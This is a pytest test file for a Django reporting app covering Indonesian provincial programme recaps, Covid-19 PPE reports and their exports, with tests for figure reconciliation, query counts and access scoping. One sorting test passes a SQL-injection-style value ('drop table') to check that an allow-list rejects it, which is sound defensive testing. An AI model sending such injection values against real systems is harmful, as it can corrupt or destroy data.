"""Reports: the national recap, a province's report, the quarterly report, the Covid-19 response report,
and the exports of every report and list.

The demo data (seed_demo) is seeded once for the package (tests/seeded/conftest.py), rolled back at the end;
the other tests build their own data in fiscal year 2031, where the demo has nothing.
"""

import datetime
import io
import json
import random
from collections import defaultdict
from decimal import ROUND_HALF_UP, Decimal

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from programs import reports
from programs.exports import RUPIAH_FORMAT
from programs.models import (
    PPE_TYPES,
    Activity,
    ActivityKind,
    ActivityPurpose,
    ActivityStatus,
    Allocation,
    Handover,
    Output,
    Participant,
    Participation,
    ProductType,
    QuarterlyNote,
    Realisation,
    RecipientType,
    ReviewStatus,
    Sector,
)
from provinces.models import Province
from tests import csvutil, sheetutil
from tests.factories import (
    make_activity,
    make_allocation,
    make_firm,
    make_handover,
    make_output,
    make_participant,
    make_participation,
    make_partner,
    make_realisation,
)
from tests.seeded.conftest import GROUP

pytestmark = [
    pytest.mark.django_db,
    # The demo data is seeded once for the package (tests/seeded/conftest.py): its modules in one worker.
    pytest.mark.xdist_group(GROUP),
]

YEAR = 2031  # a year the demo data leaves empty
REGENCIES = {"51": "51.06", "63": "63.71", "72": "72.71"}


# The demo data brings its own people, named as the cast's (README: Demo data): here they are the cast.


@pytest.fixture
def pusat(db):
    return get_user_model().objects.get(username="pusat")


@pytest.fixture
def operator_b(db):
    return get_user_model().objects.get(username="op-63")


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def _json(response):
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("application/json")
    return json.loads(_body(response))


def _csv(response):
    assert response.status_code == 200
    return csvutil.rows(response)


def _xlsx(response):
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return openpyxl.load_workbook(io.BytesIO(_body(response)))


def _sheet_rows(sheet):
    """{header: value} per data row (without the totals row) of a sheet."""
    rows = sheetutil.table(sheet)
    header = rows[0]
    return [dict(zip(header, r, strict=True)) for r in rows[1:] if r[0] != "Total"]


def _quarter_url(code, quarter, name="quarterly"):
    return reverse(f"reports:{name}", kwargs={"code": code, "quarter": quarter})


def _recap(user, year=YEAR, **filters):
    return reports.national_recap(user, reports.Filters(year=year, **filters))


# --- With the demo data ------------------------------------------------------------------------------------


def test_the_2020_recap_has_the_34_provinces_of_2020_and_2023_has_38(pusat_client):
    page = pusat_client.get(reverse("reports:national"), {"tahun": 2020})
    assert page.status_code == 200
    assert page.context["count"] == 34
    assert len(page.context["chart"]["rows"]) == 34
    html = page.content.decode()
    assert 'data-province="65"' in html  # Kalimantan Utara, a province since 2012
    assert 'data-province="93"' not in html  # Papua Selatan, since 2022
    later = pusat_client.get(reverse("reports:national"), {"tahun": 2023})
    assert later.context["count"] == 38
    assert 'data-province="93"' in later.content.decode()


def test_the_real_2020_cases_are_on_the_recap_and_its_exports_carry_the_page_numbers(pusat_client):
    url = reverse("reports:national")
    page = pusat_client.get(url, {"tahun": 2020})
    rows = {r["code"]: r for r in page.context["chart"]["rows"]}
    # Kalimantan Selatan: masks on the task force's order of 100,000 pieces.
    assert rows["63"]["ordered_masker"] == 100_000
    assert rows["63"]["handed_over_gugus_tugas_provinsi"] == rows["63"]["output_masker"]
    # Sulawesi Tengah: 10 firms, 3,000 masks handed out to the public.
    assert rows["72"]["firms"] == 10
    assert rows["72"]["handed_over_masyarakat"] == 3_000
    html = page.content.decode()
    assert "100.000" in html and "3.000" in html

    data = _json(pusat_client.get(url, {"tahun": 2020, "format": "json"}))
    assert data["year"] == 2020
    assert data["filters"] == {
        "year": 2020,
        "kind": None,
        "purpose": None,
        "sector": None,
        "covid_response": None,
        "verified_only": False,
        "fund_type": None,
    }
    assert len(data["rows"]) == 34
    by_code = {r["province_code"]: r for r in data["rows"]}
    assert by_code["63"]["province"] == "Kalimantan Selatan"
    for code, row in rows.items():
        for key, value in row.items():
            if key not in ("code", "name"):
                assert by_code[code][key] == value, (code, key)
    totals = page.context["groups"][0]["totals"]
    figures = [c["figure"].key for c in page.context["groups"][0]["columns"]]
    for key, cell in zip(figures, totals, strict=True):
        expected = cell["value"]
        # percentages (absorption, and since issue 17 the benchmark as of the month and its gap) are numbers
        assert data["totals"][key] == (float(expected) if key.endswith("_pct") else expected), key

    book = _xlsx(pusat_client.get(url, {"tahun": 2020, "format": "xlsx"}))
    sheet = book.worksheets[0]
    header_row = sheetutil.header_row_number(sheet)
    assert sheet.freeze_panes == f"C{header_row + 1}"  # below the header, right of code and name
    xlsx_rows = _sheet_rows(sheet)
    assert len(xlsx_rows) == 34
    labels = {f.key: str(f.label) for f in reports.RECAP_FIGURES}
    kalsel = next(r for r in xlsx_rows if r["Kode provinsi"] == "63")
    sulteng = next(r for r in xlsx_rows if r["Kode provinsi"] == "72")
    assert kalsel[labels["ordered_masker"]] == 100_000
    assert sulteng[labels["firms"]] == 10
    assert sulteng[labels["handed_over_masyarakat"]] == 3_000
    for r in xlsx_rows:
        for key in ("pagu", "realised", "firms", "output_masker"):
            assert r[labels[key]] == by_code[r["Kode provinsi"]][key]
    last = list(sheet.iter_rows(values_only=True))[-1]
    assert last[0] == "Total"
    header = sheetutil.table(sheet)[0]
    assert last[header.index(labels["firms"])] == data["totals"]["firms"]
    money = sheetutil.table_cells(sheet)[1][header.index(labels["pagu"])]
    assert money.number_format == RUPIAH_FORMAT and isinstance(money.value, int)


def test_province_covid_and_quarterly_reports_show_the_real_cases(pusat_client):
    kalsel = pusat_client.get(reverse("reports:province", args=["63"]), {"tahun": 2020})
    assert kalsel.status_code == 200
    assert kalsel.context["row"]["ordered_masker"] == 100_000
    assert len(kalsel.context["months"]) == 12
    covid = pusat_client.get(reverse("reports:covid"), {"tahun": 2020})
    masks_sulteng = next(
        r
        for r in covid.context["report"].rows
        if r["province_code"] == "72" and r["product_type"] == "masker"
    )
    assert masks_sulteng["handed_over_masyarakat"] == 3_000
    masks_kalsel = next(
        r
        for r in covid.context["report"].rows
        if r["province_code"] == "63" and r["product_type"] == "masker"
    )
    assert masks_kalsel["ordered"] == 100_000
    quarter = pusat_client.get(_quarter_url("72", 3), {"tahun": 2020})
    assert quarter.status_code == 200
    assert quarter.context["report"].summary["handed_over"] == 3_000
    data = _json(pusat_client.get(_quarter_url("72", 3), {"tahun": 2020, "format": "json"}))
    assert data["quarter"] == 3 and data["province_code"] == "72"
    assert data["totals"]["handed_over"] == 3_000


# --- Reconciliation: every figure equals the records added up one by one ------------------------------------


def _build(rng, year=YEAR, scale=1):
    """Random programme data in three provinces: realisation in any review state, activities of every kind
    and status, firms taking part in several activities, and one firm that moved to another province."""
    allocations = {}
    firms_of = {}
    activities = defaultdict(list)
    for code, regency in REGENCIES.items():
        allocation = Allocation.objects.filter(province__code=code, year=year).first()
        if allocation is None:
            allocation = make_allocation(code, year, pagu=Decimal(rng.randrange(5, 20) * 100_000_000))
            for month in rng.sample(range(1, 13), rng.randint(0, 6)):
                make_realisation(
                    allocation,
                    month,
                    amount=Decimal(rng.randrange(1, 40) * 1_000_000),
                    review_status=rng.choice(ReviewStatus.values),
                )
        allocations[code] = allocation
        partner = make_partner(code)
        firms_of[code] = [make_firm(code, regency) for _ in range(rng.randint(1, 4))]
        for _ in range(rng.randint(0, 3) * scale):
            status = rng.choice(ActivityStatus.values)
            done = status == ActivityStatus.DONE
            activity = make_activity(
                allocation,
                kind=rng.choice(ActivityKind.values),
                purpose=rng.choice(ActivityPurpose.values),
                sector=rng.choice(Sector.values),
                covid_response=rng.random() < 0.5,
                status=status,
                status_reason="Kebijakan PSBB" if status in ("ditunda", "batal") else "",
                actual_start=datetime.date(year, 6, 15) if done else None,
                actual_end=datetime.date(year, rng.choice([6, 7, 10]), 28) if done else None,
                review_status=rng.choice(ReviewStatus.values),
                budget=Decimal(rng.randrange(1, 50) * 10_000_000),
                target_participants=rng.randint(1, 30),
                actual_participants=rng.choice([None, rng.randint(0, 30)]),
            )
            activities[code].append(activity)
            for firm in rng.sample(firms_of[code], rng.randint(0, len(firms_of[code]))):
                participation = make_participation(activity, firm)
                for _ in range(rng.randint(0, 2)):
                    quantity = rng.randint(1, 500)
                    ordered = rng.choice([None, rng.randint(1, 600)])
                    output = make_output(
                        participation,
                        quantity=quantity,
                        product_type=rng.choice(ProductType.values),
                        produced_on=datetime.date(year, rng.randint(1, 12), 10),
                        ordered_quantity=ordered,
                        buyer=partner if ordered else None,
                    )
                    left = quantity
                    for _ in range(rng.randint(0, 2)):
                        if left <= 0:
                            break
                        given_out = rng.randint(1, left)
                        left -= given_out
                        make_handover(
                            output,
                            quantity=given_out,
                            recipient_type=rng.choice(RecipientType.values),
                            handed_on=min(
                                output.produced_on + datetime.timedelta(days=rng.randint(0, 90)),
                                datetime.date(year, 12, 31),
                            ),
                        )
            for _ in range(rng.randint(0, 3)):
                make_participant(activity)
    # A firm registered in Bali that later took part in Kalimantan Selatan (it moved): one firm nationally.
    if activities["63"] and firms_of["51"]:
        target = activities["63"][0]
        moved = firms_of["51"][0]
        if not Participation.objects.filter(activity=target, firm=moved).exists():
            make_participation(target, moved)
    return allocations


def _matches(activity, filters):
    return (
        (not filters.kind or activity.kind == filters.kind)
        and (not filters.purpose or activity.purpose == filters.purpose)
        and (not filters.sector or activity.sector == filters.sector)
        and (filters.covid is None or activity.covid_response == filters.covid)
        and (not filters.verified_only or activity.review_status == ReviewStatus.VERIFIED)
    )


def _percent(part, whole):
    """Two decimals, half rounded up (the README's rule for every percentage)."""
    if not whole:
        return None
    return (Decimal(part) * 100 / Decimal(whole)).quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)


def _expected_recap(filters):
    """The recap added up from the records one by one, reaching each row's province through its parents
    (not through the province and year the rows carry)."""
    year = filters.year
    rows = {}
    for province in Province.objects.all():
        if province.established_year <= year:
            rows[province.code] = defaultdict(int, absorption_pct=None)
    firms = defaultdict(set)
    national_firms = set()
    for allocation in Allocation.objects.filter(year=year).select_related("province"):
        row = rows[allocation.province.code]
        row["pagu"] = allocation.pagu
        row["current_pagu"] = allocation.current_pagu
        row["realised"] = sum(
            (
                r.amount
                for r in Realisation.objects.filter(allocation=allocation)
                if not filters.verified_only or r.review_status == ReviewStatus.VERIFIED
            ),
            Decimal(0),
        )
    for activity in Activity.objects.filter(allocation__year=year).select_related("allocation__province"):
        if not _matches(activity, filters):
            continue
        row = rows[activity.allocation.province.code]
        row["activities"] += 1
        row[STATUS_FIGURES[activity.status]] += 1
        row["activity_budget"] += activity.budget
        row["participants_target"] += activity.target_participants
        row["participants_actual"] += activity.actual_participants or 0
    in_year = {"activity__allocation__year": year}
    for participation in Participation.objects.filter(**in_year).select_related(*PARENTS):
        activity = participation.activity
        if _matches(activity, filters):
            firms[activity.allocation.province.code].add(participation.firm_id)
            national_firms.add(participation.firm_id)
    for participant in Participant.objects.filter(**in_year).select_related(*PARENTS):
        activity = participant.activity
        if _matches(activity, filters):
            rows[activity.allocation.province.code]["participants"] += 1
    for output in Output.objects.filter(participation__activity__allocation__year=year).select_related(
        "participation__activity__allocation__province"
    ):
        activity = output.participation.activity
        if _matches(activity, filters):
            row = rows[activity.allocation.province.code]
            row[f"output_{output.product_type}"] += output.quantity
            row[f"ordered_{output.product_type}"] += output.ordered_quantity or 0
    for handover in Handover.objects.filter(
        output__participation__activity__allocation__year=year
    ).select_related("output__participation__activity__allocation__province"):
        activity = handover.output.participation.activity
        if _matches(activity, filters):
            rows[activity.allocation.province.code][f"handed_over_{handover.recipient_type}"] += (
                handover.quantity
            )
    for code, row in rows.items():
        row["firms"] = len(firms[code])
        row["absorption_pct"] = _percent(row["realised"], row["current_pagu"])
    return rows, national_firms


PARENTS = ["activity__allocation__province"]
STATUS_FIGURES = {
    "rencana": "activities_planned",
    "berjalan": "activities_running",
    "selesai": "activities_done",
    "ditunda": "activities_postponed",
    "batal": "activities_cancelled",
}


def _check_recap(recap, filters):
    expected, national_firms = _expected_recap(filters)
    assert [r["province_code"] for r in recap.rows] == sorted(expected)
    for row in recap.rows:
        wanted = expected[row["province_code"]]
        for figure in reports.RECAP_FIGURES:
            assert row[figure.key] == wanted[figure.key], (row["province_code"], figure.key, filters)
    for figure in reports.RECAP_FIGURES:
        if figure.key in ("firms", "absorption_pct"):
            continue
        assert recap.totals[figure.key] == sum(r[figure.key] for r in expected.values()), figure.key
    assert recap.totals["firms"] == len(national_firms)
    realised = sum(r["realised"] for r in expected.values())
    assert recap.totals["absorption_pct"] == _percent(
        realised, sum(r["current_pagu"] for r in expected.values())
    )


def _check_covid(report, filters):
    produced = defaultdict(int)
    ordered = defaultdict(int)
    handed = defaultdict(int)
    outputs = Output.objects.filter(participation__activity__allocation__year=filters.year)
    for output in outputs.select_related("participation__activity__allocation__province"):
        activity = output.participation.activity
        if output.product_type in PPE_TYPES and _matches(activity, filters):
            key = (activity.allocation.province.code, output.product_type)
            produced[key] += output.quantity
            ordered[key] += output.ordered_quantity or 0
            for handover in output.handovers.all():
                handed[key + (handover.recipient_type,)] += handover.quantity
    for row in report.rows:
        key = (row["province_code"], row["product_type"])
        assert row["produced"] == produced[key]
        assert row["ordered"] == ordered[key]
        for recipient in RecipientType.values:
            assert row[f"handed_over_{recipient}"] == handed[key + (recipient,)]
    assert report.totals["produced"] == sum(produced.values())
    assert report.totals["ordered"] == sum(ordered.values())
    assert report.totals["handed_over"] == sum(handed.values())


def _check_activity_figures(user, year):
    for code in REGENCIES:
        province = Province.objects.get(code=code)
        figures = reports.activity_figures(user, province, year)
        for activity in Activity.objects.filter(allocation__province=province, allocation__year=year):
            f = figures.get(activity.pk, reports.EMPTY_ACTIVITY_FIGURES)
            outputs = list(Output.objects.filter(participation__activity=activity))
            assert f["firms"] == len({p.firm_id for p in activity.participations.all()})
            assert f["participants"] == len(list(activity.participants.all()))
            assert f["produced"] == sum(o.quantity for o in outputs)
            assert f["ordered"] == sum(o.ordered_quantity or 0 for o in outputs)
            assert f["handed_over"] == sum(h.quantity for o in outputs for h in o.handovers.all())


FILTER_CHOICES = st.fixed_dictionaries(
    {
        "kind": st.sampled_from(["", *ActivityKind.values]),
        "purpose": st.sampled_from(["", ActivityPurpose.PENGEMBANGAN]),
        "sector": st.sampled_from(["", Sector.SANDANG]),
        "covid": st.sampled_from([None, True, False]),
        "verified_only": st.booleans(),
    }
)


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rng=st.randoms(use_true_random=False), chosen=FILTER_CHOICES)
def test_every_recap_figure_equals_the_records_added_up_one_by_one(pusat, rng, chosen):
    with transaction.atomic():
        _build(rng)
        for filters in (reports.Filters(year=YEAR), reports.Filters(year=YEAR, **chosen)):
            _check_recap(reports.national_recap(pusat, filters), filters)
            _check_covid(reports.covid_report(pusat, filters), filters)
        _check_activity_figures(pusat, YEAR)
        transaction.set_rollback(True)


def test_a_firm_counts_once_per_province_and_once_nationally(pusat):
    bali, kalsel = make_allocation("51", YEAR), make_allocation("63", YEAR)
    firm = make_firm("51")
    for _ in range(3):
        make_participation(make_activity(bali), firm)
    make_participation(make_activity(bali), make_firm("51", nib=""))  # no NIB: still one firm
    make_participation(make_activity(kalsel), firm)  # the firm moved to Kalimantan Selatan
    recap = _recap(pusat)
    rows = {r["province_code"]: r for r in recap.rows}
    assert (rows["51"]["firms"], rows["63"]["firms"]) == (2, 1)
    assert recap.totals["firms"] == 2


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_a_province_report_and_its_quarters_add_up_to_the_recap_row(pusat_client, pusat, seed):
    _build(random.Random(seed), scale=2)
    filters = reports.Filters(year=YEAR)
    recap = reports.national_recap(pusat, filters)
    for code in REGENCIES:
        row = next(r for r in recap.rows if r["province_code"] == code)
        data = _json(
            pusat_client.get(reverse("reports:province", args=[code]), {"tahun": YEAR, "format": "json"})
        )
        summary = data["summary"]["rows"][0]
        assert summary["firms"] == row["firms"]
        assert data["totals"]["budget"] == row["activity_budget"]
        assert data["totals"]["target_participants"] == row["participants_target"]
        monthly = data["monthly"]["rows"]
        assert sum(m["realised"] or 0 for m in monthly) == row["realised"]
        q4 = reports.quarterly_report(pusat, Province.objects.get(code=code), YEAR, 4)
        assert q4.realised_to_end == row["realised"]
        assert q4.summary["produced"] == sum(row[k] for k in reports.OUTPUT_KEYS.values())
        assert q4.summary["handed_over"] == sum(row[k] for k in reports.HANDED_OVER_KEYS.values())


def test_sorting_follows_the_allow_list_and_ignores_anything_else(pusat_client):
    _build(random.Random(7))
    url = reverse("reports:national")
    rows = _json(pusat_client.get(url, {"tahun": YEAR, "urut": "-realised", "format": "json"}))["rows"]
    realised = [r["realised"] for r in rows]
    assert realised == sorted(realised, reverse=True)
    names = [
        r["province"]
        for r in _json(pusat_client.get(url, {"tahun": YEAR, "urut": "province", "format": "json"}))["rows"]
    ]
    assert names == sorted(names)
    odd = pusat_client.get(url, {"tahun": YEAR, "urut": "province__name; drop table", "format": "json"})
    assert [r["province_code"] for r in _json(odd)["rows"]] == sorted(r["province_code"] for r in rows)


# --- Query counts: the same at 1x and 10x -------------------------------------------------------------------


def _count(client, url, params):
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url, params)
        _body(response)  # a streamed export runs its queries while it is sent
    assert response.status_code == 200, (url, params)
    return len(ctx.captured_queries)


# Every signed-in request: session, user, OTP device, the user's groups (roles) = 4 (the session is not
# written again: it was, less than a minute ago). Then the report's own:
#   recap (8): provinces, allocations, activities by status, firms per province, firms nationally,
#              individual participants, outputs by product type, handovers by recipient type
#              (+1 with "verified only": the verified months of realisation)
#   province (1 + 8 + 1 + 2 + 4): the province, the recap, monthly realisation, activity count and page (an
#              export streams every activity instead: one query), 4 per-activity aggregates
#   quarterly (5 + 5 + 2 + 4): the province, allocation, revision in force, realisation, note; the summary
#              over every activity (activities, participations, participants, outputs, handovers); the
#              activity count and page (an export streams every activity instead: one query), 4
#              per-activity aggregates (of the page's activities; an export's: of all of them)
#   covid (3): provinces, outputs by province and product, handovers by province, product and recipient
#   a list export (1): the list's own queryset, streamed in chunks
REPORTS = {
    "national": (lambda: reverse("reports:national"), {}, 4 + 8),
    "national-filtered": (
        lambda: reverse("reports:national"),
        {"jenis": "bimtek", "covid": "ya", "verifikasi": "terverifikasi", "urut": "-firms"},
        # + 1 (issue 17): the pagu in force at the as-of month's end (programs/reports/pagu.py)
        4 + 8 + 1 + 1,
    ),
    "province": (lambda: reverse("reports:province", args=["63"]), {}, 4 + 1 + 8 + 1 + 2 + 4),
    # + 17 (issue 17): the page's signer (the quarter's package, its events, the Kepala Dinas); the exports'
    # PP 39/2006 forms (allocation, pagu at the quarter's end, RPD and its lines, verified months, Form A,
    # capaian's ROs, up to six measure queries, RO lines, months in all, notes, package, events, Kepala Dinas)
    "quarterly": (lambda: _quarter_url("63", 3), {}, 4 + 5 + 5 + 2 + 4 + 17),
    "covid": (lambda: reverse("reports:covid"), {}, 4 + 3),
}
LIST_URLS = {
    "kegiatan": "programs:activity_list",
    "ikm": "programs:firm_list",
    "mitra": "programs:partner_list",
    "anggaran": "programs:allocation_list",
}


@pytest.mark.slow
def test_each_report_page_and_export_uses_a_fixed_number_of_queries_at_1x_and_10x(pusat_client):
    rng = random.Random(11)
    _build(rng, scale=1)
    cases = []
    for name, (url, params, most) in REPORTS.items():
        for fmt in ("", "json", "csv", "xlsx"):
            # + 1 for the page: the user's unread notices, counted for the bell in the navigation bar
            page = 0 if fmt else 1
            # + 1 for an XLSX: whether unverified records are in it, for its title block (one EXISTS)
            xlsx = fmt == "xlsx"
            cases.append(
                (
                    name,
                    url(),
                    {"tahun": YEAR, **params, **({"format": fmt} if fmt else {})},
                    most + page + xlsx,
                )
            )
    for kind, url in LIST_URLS.items():
        for fmt in ("json", "csv", "xlsx"):
            # + 1 for the activity list: its total counts distinct firms in one query; + 1 for the XLSX of
            # the verified kinds (activities, allocations): whether unverified records are in it (EXISTS)
            unverified = fmt == "xlsx" and kind in ("kegiatan", "anggaran")
            most = 4 + 1 + (kind == "kegiatan") + unverified
            cases.append((kind, reverse(url), {"tahun": YEAR, "format": fmt}, most))
    small = {}
    for name, url, params, most in cases:
        _count(pusat_client, url, params)  # warm caches (content types, sites)
        small[name, url, tuple(params.items())] = n = _count(pusat_client, url, params)
        assert n <= most, (name, params, n)
    _build(rng, scale=9)
    assert Activity.objects.filter(year=YEAR).count() >= 10
    for name, url, params, _most in cases:
        assert _count(pusat_client, url, params) == small[name, url, tuple(params.items())], (name, params)


# --- Query counts: exactly which queries, for ministry staff ----------------------------------------------
# Every request of ministry staff starts with the session, the user, the user's authenticator (the second
# factor the session was verified with) and the user's groups (roles) — and no write of the session, written
# less than a minute ago: listed in each test below, as the page's own are. A
# page (not an export) also counts the user's unread notices for the bell in the navigation bar.
# PostgreSQL keeps tallies of what the unfiltered reports add up (programs/tallies.py); SQLite has none and
# adds up the records, so those reports differ by backend.

POSTGRES = connection.vendor == "postgresql"
FORMATS = ["", "json", "csv", "xlsx"]


def _exactly(client, django_assert_num_queries, n, url, params):
    with django_assert_num_queries(n):
        response = client.get(url, params)
        body = _body(response)  # a streamed export runs its queries while it is sent
    assert response.status_code == 200
    return response, body


def _params(fmt, **params):
    return {"tahun": YEAR, **params, **({"format": fmt} if fmt else {})}


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_national_recap_and_its_exports_run_10_queries_on_postgresql_14_on_sqlite_the_page_one_more(
    client, pusat, fmt, django_assert_num_queries
):
    client.force_login(pusat)
    _build(random.Random(11))
    # 1. the session
    # 2. the user
    # 3. the user's authenticator
    # 4. the user's groups (roles)
    # 5. the provinces active in the year
    # 6. their allocations: pagu, current pagu, realised total (kept by the database)
    # 7. the realisation to the as-of month per province, summed and counted (issue 17: the recap is as of
    #    a month, by default December of a past year; a province with none recorded has no data, not 0 %)
    # 8. the revisions dated by the month's end: the pagu in force then, the absorption's divisor
    #    (programs/reports/pagu.py)
    # On PostgreSQL:
    #   8. the year's tallies, every province and measure
    #   9. the year's distinct firms nationally (a firm in two provinces counts once)
    # On SQLite, the records added up:
    #   8. activities by province and status: count, budget, participants targeted and actual
    #   9. distinct firms per province
    #   10. distinct firms nationally
    #   11. individual participants per province
    #   12. outputs by province and product type, produced and ordered
    #   13. handovers by province and recipient type
    # the page only: the user's unread notices (the bell); an XLSX only: whether unverified records are in
    # it, for its title block (one EXISTS).
    n = (10 if POSTGRES else 14) + (0 if fmt else 1) + (fmt == "xlsx")
    response, _ = _exactly(client, django_assert_num_queries, n, reverse("reports:national"), _params(fmt))
    assert fmt or response.context["count"] == 38  # every province active in 2031


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_filtered_national_recap_and_its_exports_run_14_queries_the_page_15(
    client, pusat, fmt, django_assert_num_queries
):
    client.force_login(pusat)
    _build(random.Random(11))
    # Narrowed to some activities (or to the verified records), the figures come from the records on every
    # backend:
    # 1. the session
    # 2. the user
    # 3. the user's authenticator
    # 4. the user's groups (roles)
    # 5. the provinces active in the year
    # 6. their allocations
    # 7. the verified months of realisation to the as-of month per province (the running total holds
    #    every month)
    # 7a. the revisions dated by the month's end: the pagu in force then (programs/reports/pagu.py)
    # 8. the activities asked for, by province and status
    # 9. their distinct firms per province
    # 10. their distinct firms nationally
    # 11. their individual participants per province
    # 12. their outputs by province and product type
    # 13. their handovers by province and recipient type
    # (the page only: the user's unread notices, the bell)
    params = _params(fmt, jenis="bimtek", covid="ya", verifikasi="terverifikasi", urut="-firms")
    # (verified records only: the XLSX's title block needs no query to say so)
    _exactly(client, django_assert_num_queries, 14 + (0 if fmt else 1), reverse("reports:national"), params)


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_province_report_runs_17_queries_on_postgresql_20_on_sqlite_an_export_two_fewer(
    client, pusat, fmt, django_assert_num_queries
):
    client.force_login(pusat)
    _build(random.Random(11))
    assert Activity.objects.filter(province__code="63", year=YEAR).exists()  # else no per-activity figures
    # 1. the session
    # 2. the user
    # 3. the user's authenticator
    # 4. the user's groups (roles)
    # 5. the province, among those the user may see
    # 6. the province again, as the recap's one row (active in the year)
    # 7. its allocation
    # On PostgreSQL:
    #   8. its tallies
    #   9. the national distinct firms (read, though one province's total is its own count)
    # On SQLite, its records added up:
    #   8. activities by status
    #   9. distinct firms
    #   10. individual participants
    #   11. outputs by product type
    #   12. handovers by recipient type
    # then:
    # - realisation per month (the curve)
    # - the page: the activities counted (the pager), the page of activities, regency joined, and the
    #   page's figures: distinct firms, individual participants, outputs, handovers (one grouped query each),
    #   and the user's unread notices (the bell in the navigation bar)
    # - an export: the same four figures for every activity, then every activity streamed (no count)
    # - an XLSX only: whether unverified records are in it, for its title block (one EXISTS)
    n = (17 if POSTGRES else 20) - (2 if fmt else 0) + (fmt == "xlsx")
    _exactly(client, django_assert_num_queries, n, reverse("reports:province", args=["63"]), _params(fmt))


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_covid_report_and_its_exports_run_6_queries_on_postgresql_7_on_sqlite_the_page_one_more(
    client, pusat, fmt, django_assert_num_queries
):
    client.force_login(pusat)
    _build(random.Random(11))
    # 1. the session
    # 2. the user
    # 3. the user's authenticator
    # 4. the user's groups (roles)
    # 5. the provinces active in the year
    # On PostgreSQL:
    #   6. the year's tallies (produced, ordered, handed over per product and recipient)
    # On SQLite:
    #   6. protective equipment produced and ordered, by province and product type
    #   7. handed over, by province, product type and recipient type
    # the page only: the user's unread notices (the bell); an XLSX only: whether unverified records are in
    # it, for its title block (one EXISTS).
    n = (6 if POSTGRES else 7) + (0 if fmt else 1) + (fmt == "xlsx")
    _exactly(client, django_assert_num_queries, n, reverse("reports:covid"), _params(fmt))


def test_the_report_index_uses_the_same_number_of_queries_for_1_or_4_years(client, pusat):
    client.force_login(pusat)
    make_allocation("63", YEAR)
    few = _count(client, reverse("reports:index"), {})
    for year in (YEAR + 1, YEAR + 2, YEAR + 3):
        make_allocation("63", year)
        make_allocation("51", year)
    assert _count(client, reverse("reports:index"), {}) == few


def test_the_report_index_runs_7_queries_for_ministry_staff(client, pusat, django_assert_num_queries):
    client.force_login(pusat)
    make_allocation("63", YEAR)
    # 1. the session
    # 2. the user
    # 3. the user's authenticator
    # 4. the user's groups (roles)
    # 5. the years with an allocation the user may see (the index opens on the newest)
    # 6. the provinces active in that year
    # 7. the user's unread notices, counted (the bell in the navigation bar)
    with django_assert_num_queries(7):
        response = client.get(reverse("reports:index"))
    assert response.context["year"] == YEAR


@pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
@pytest.mark.parametrize("kind", LIST_URLS)
def test_a_list_export_runs_4_queries_for_an_operator_the_activities_5(
    client, operator_b, kind, fmt, django_assert_num_queries
):
    _build(random.Random(11))
    client.force_login(operator_b)
    # 1. the session
    # 2. the user (an operator has no second factor to look up)
    # 3. the user's groups (roles)
    # 4. the list's own queryset (scoped, filtered), streamed in chunks
    # 5. activities only: the distinct firms of all the listed activities, for the totals row
    # an XLSX only: the title block's scope (the names of the provinces the operator sees) and, for the
    # verified kinds (activities, allocations), whether unverified records are in it (one EXISTS)
    xlsx = (1 + (kind in ("kegiatan", "anggaran"))) if fmt == "xlsx" else 0
    n = (5 if kind == "kegiatan" else 4) + xlsx
    _, body = _exactly(client, django_assert_num_queries, n, reverse(LIST_URLS[kind]), _params(fmt))
    assert body


# --- Scoping: an operator sees their own province only, everywhere ------------------------------------------


def test_an_operator_sees_only_their_province_in_every_report_and_export(operator_b_client):
    _build(random.Random(5), scale=2)
    page = operator_b_client.get(reverse("reports:national"), {"tahun": YEAR})
    assert [r["code"] for r in page.context["chart"]["rows"]] == ["63"]
    data = _json(operator_b_client.get(reverse("reports:national"), {"tahun": YEAR, "format": "json"}))
    assert [r["province_code"] for r in data["rows"]] == ["63"]
    assert data["totals"]["firms"] == data["rows"][0]["firms"]
    csv_rows = _csv(operator_b_client.get(reverse("reports:national"), {"tahun": YEAR, "format": "csv"}))
    assert [r[0] for r in csv_rows[1:]] == ["63", "Total"]
    book = _xlsx(operator_b_client.get(reverse("reports:national"), {"tahun": YEAR, "format": "xlsx"}))
    assert [r["Kode provinsi"] for r in _sheet_rows(book.worksheets[0])] == ["63"]
    covid = _json(operator_b_client.get(reverse("reports:covid"), {"tahun": YEAR, "format": "json"}))
    assert {r["province_code"] for r in covid["rows"]} <= {"63"}
    assert operator_b_client.get(reverse("reports:province", args=["63"]), {"tahun": YEAR}).status_code == 200
    for code in ("72", "51"):
        urls = [
            reverse("reports:province", args=[code]),
            _quarter_url(code, 1),
            _quarter_url(code, 4, "quarterly_note"),
        ]
        for url in urls:
            for fmt in ("", "json", "xlsx"):
                response = operator_b_client.get(url, {"tahun": YEAR, **({"format": fmt} if fmt else {})})
                assert response.status_code == 404, (url, fmt)
    for kind, url in LIST_URLS.items():
        rows = _json(operator_b_client.get(reverse(url), {"format": "json"}))["rows"]
        assert rows and {r["province_code"] for r in rows} == {"63"}, kind
    index = operator_b_client.get(reverse("reports:index"))
    assert [p.code for p in index.context["provinces"]] == ["63"]


def test_verified_only_leaves_out_what_is_not_verified(pusat_client, pusat):
    allocation = make_allocation("51", YEAR, pagu=Decimal("1000000000"))
    make_realisation(allocation, 1, amount=Decimal("10000000"), review_status=ReviewStatus.VERIFIED)
    make_realisation(allocation, 2, amount=Decimal("20000000"), review_status=ReviewStatus.SUBMITTED)
    verified = make_activity(allocation, review_status=ReviewStatus.VERIFIED)
    draft = make_activity(allocation, review_status=ReviewStatus.DRAFT)
    for activity, masks in ((verified, 100), (draft, 7)):
        participation = make_participation(activity, make_firm("51"))
        make_handover(make_output(participation, quantity=masks), quantity=masks)
        make_participant(activity)
